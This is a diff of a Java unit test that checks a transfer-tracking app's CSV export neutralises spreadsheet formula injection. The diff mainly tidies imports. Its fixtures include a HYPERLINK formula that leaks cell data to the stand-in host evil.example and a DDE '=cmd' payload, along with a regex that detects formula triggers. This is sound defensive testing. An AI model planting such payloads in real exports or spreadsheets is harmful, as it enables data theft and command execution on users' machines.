@@ -3,12 +3,16 @@ package org.transferwatch.security;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import java.io.ByteArrayOutputStream;
+import java.io.StringReader;
+import java.nio.charset.StandardCharsets;
 import java.time.LocalDate;
 import java.util.List;
 import java.util.Map;
 import java.util.function.Function;
 import java.util.stream.Stream;
 
+import org.apache.commons.csv.CSVFormat;
 import org.jooq.DSLContext;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -19,6 +23,8 @@ import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.transaction.annotation.Transactional;
 import org.transferwatch.base.ValidationException;
 import org.transferwatch.exchange.ApiTokenService;
+import org.transferwatch.exchange.ExchangeService;
+import org.transferwatch.exchange.TransferCsv;
 import org.transferwatch.sanctions.SanctionsLink;
 import org.transferwatch.sanctions.SanctionsService;
 import org.transferwatch.source.NewSource;
@@ -30,12 +36,14 @@ import org.transferwatch.support.TestData;
 import org.transferwatch.support.TransferWatchTest;
 import org.transferwatch.support.WithDemoUser;
 import org.transferwatch.transfer.AdmiraltyGrade;
+import org.transferwatch.transfer.Confidence;
 import org.transferwatch.transfer.NewClaim;
 import org.transferwatch.transfer.Quantity;
 import org.transferwatch.transfer.Stance;
 import org.transferwatch.transfer.TransferDraft;
 import org.transferwatch.transfer.TransferFilter;
 import org.transferwatch.transfer.TransferFilterParameters;
+import org.transferwatch.transfer.TransferKind;
 import org.transferwatch.transfer.TransferRow;
 import org.transferwatch.transfer.TransferService;
 import org.transferwatch.transfer.TransferListService;
@@ -43,6 +51,7 @@ import org.transferwatch.transfer.EvidenceService;
 import org.transferwatch.transfer.TransferSanctionsService;
 import org.transferwatch.transfer.TransferReviewService;
 import org.transferwatch.transfer.TransferSort;
+import org.transferwatch.transfer.TransferStatus;
 
 /**
  * Input that is too long, that carries SQL's special characters, or that is not a web address, at the
@@ -98,7 +107,7 @@ class BadInputTest {
     DSLContext dsl;
 
     @Autowired
-    org.transferwatch.exchange.ExchangeService exchange;
+    ExchangeService exchange;
 
     private static TransferDraft draftWith(Function<TransferDraft, TransferDraft> change) {
         return change.apply(TestData.draft("PRK", "RUS", "Shells"));
@@ -298,29 +307,28 @@ class BadInputTest {
     @Test
     void formulas_in_every_text_field_are_neutralised_in_the_export_and_come_back_unchanged() throws Exception {
         var item = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\") formulaprobe";
-        var fields = new TransferDraft("PRK", "RUS", org.transferwatch.transfer.TransferKind.ARMS, "ML3", item, "+1 missile",
-                new Quantity(null, null, "@SUM(1)", false), null, org.transferwatch.transfer.TransferStatus.REPORTED, null,
-                null, "-2+3 via Rason", "=cmd|' /C calc'!A0", org.transferwatch.transfer.Confidence.LOW);
+        var fields = new TransferDraft("PRK", "RUS", TransferKind.ARMS, "ML3", item, "+1 missile",
+                new Quantity(null, null, "@SUM(1)", false), null, TransferStatus.REPORTED, null,
+                null, "-2+3 via Rason", "=cmd|' /C calc'!A0", Confidence.LOW);
         var id = transfers.createDraft(fields);
         evidenceService.addClaimFromNewSource(id, source("\uff1d1+1 report", null, null, null, null),
                 new NewClaim(0, "+1 more, they said", Stance.SUPPORTS, AdmiraltyGrade.parse("B2")));
-        var out = new java.io.ByteArrayOutputStream();
+        var out = new ByteArrayOutputStream();
         exchange.export(TransferFilter.NONE.withText("formulaprobe"), out);
-        var text = out.toString(java.nio.charset.StandardCharsets.UTF_8).substring(1);
-        var records = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().get().parse(new java.io.StringReader(text))
-            .getRecords();
+        var text = out.toString(StandardCharsets.UTF_8).substring(1);
+        var records = CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(text)).getRecords();
         assertThat(records).hasSize(1);
         var row = records.getFirst();
-        var written = Map.of(org.transferwatch.exchange.TransferCsv.ITEM, item,
-                org.transferwatch.exchange.TransferCsv.DESIGNATION, "+1 missile",
-                org.transferwatch.exchange.TransferCsv.QUANTITY_UNIT, "@SUM(1)",
-                org.transferwatch.exchange.TransferCsv.ROUTE_NOTES, "-2+3 via Rason",
-                org.transferwatch.exchange.TransferCsv.NOTES, "=cmd|' /C calc'!A0",
-                org.transferwatch.exchange.TransferCsv.SOURCE, "\uff1d1+1 report",
-                org.transferwatch.exchange.TransferCsv.QUOTE, "+1 more, they said");
+        var written = Map.of(TransferCsv.ITEM, item,
+                TransferCsv.DESIGNATION, "+1 missile",
+                TransferCsv.QUANTITY_UNIT, "@SUM(1)",
+                TransferCsv.ROUTE_NOTES, "-2+3 via Rason",
+                TransferCsv.NOTES, "=cmd|' /C calc'!A0",
+                TransferCsv.SOURCE, "\uff1d1+1 report",
+                TransferCsv.QUOTE, "+1 more, they said");
         written.forEach((column, value) -> {
             assertThat(row.get(column)).as(column).isEqualTo("'" + value);
-            assertThat(org.transferwatch.exchange.TransferCsv.restore(row.get(column))).as(column).isEqualTo(value);
+            assertThat(TransferCsv.restore(row.get(column))).as(column).isEqualTo(value);
         });
         assertThat(row.toList()).as("no cell starts with a formula trigger").noneMatch(
                 cell -> cell.stripLeading().matches("(?s)^[=+\\-@\\t\\r\\uff1d\\uff0b\\uff0d\\uff20].*"));
